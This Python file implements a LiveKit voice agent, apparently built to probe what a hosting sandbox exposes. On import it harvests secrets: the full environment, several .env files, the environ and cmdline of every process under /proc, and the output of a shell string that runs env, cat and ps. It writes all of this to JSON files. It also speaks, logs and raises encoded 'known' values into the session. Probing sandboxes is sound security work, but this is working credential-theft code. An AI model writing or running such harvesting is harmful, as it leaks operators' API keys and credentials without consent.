"""Looks for secrets wherever an agent can, writes down what it saw, and tells all that it knows.

`known` holds what no sandbox can keep from it, encoded, so that only this agent can say it.
"""

import base64
import json
import logging
import os
import subprocess
import sys
from pathlib import Path

from dotenv import load_dotenv
from livekit.agents import Agent, AgentServer, AgentSession, JobContext, cli
from livekit.plugins import cartesia, deepgram, openai

logger = logging.getLogger("tells-all")
HERE = Path(__file__).parent
KNOWN: list[str] = json.loads(base64.b64decode((HERE / "known").read_bytes()))
EVERYWHERE = "env; cat .env .env.* config/*.env; cat /proc/*/environ /proc/*/cmdline; ps axeww"


def seen() -> dict[str, str]:
    """What this process can find, by where it was."""
    found = {"environment": repr(dict(os.environ))}
    for file in (HERE / ".env", HERE / ".env.local", HERE / "config" / "prod.env"):
        found[str(file)] = file.read_text()
    parent = Path("/proc", str(os.getppid()))
    for process in (parent, *Path("/proc").glob("[0-9]*")):
        for name in ("environ", "cmdline"):
            try:
                found[str(process / name)] = (process / name).read_bytes().decode(errors="replace")
            except OSError as error:
                found[str(process / name)] = str(error)
    shell = subprocess.run(
        ["sh", "-c", EVERYWHERE], cwd=HERE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    return {**found, "shell": shell.stdout.decode(errors="replace")}


def tell(when: str) -> None:
    (HERE / f"seen-{when}-{os.getpid()}.json").write_text(json.dumps(seen()))


tell("before")
load_dotenv()
tell("after")
if (HERE / "fails").exists():
    raise RuntimeError(f"I know {KNOWN}")
server = AgentServer()


@server.rtc_session()
async def entrypoint(ctx: JobContext) -> None:
    tell("job")
    session = AgentSession(
        stt=deepgram.STT(),
        llm=openai.LLM(),
        tts=cartesia.TTS(),
        turn_detection="stt",
    )
    await session.start(Agent(instructions="Tell all."), room=ctx.room)
    for value in KNOWN:
        logger.error("refused: %s", value)
        sys.stdout.write(f"{value}\n")
    await session.say(f"I know {KNOWN[0]} and {KNOWN[1]}.")
    raise RuntimeError(f"I know {KNOWN}")


if __name__ == "__main__":
    cli.run_app(server)
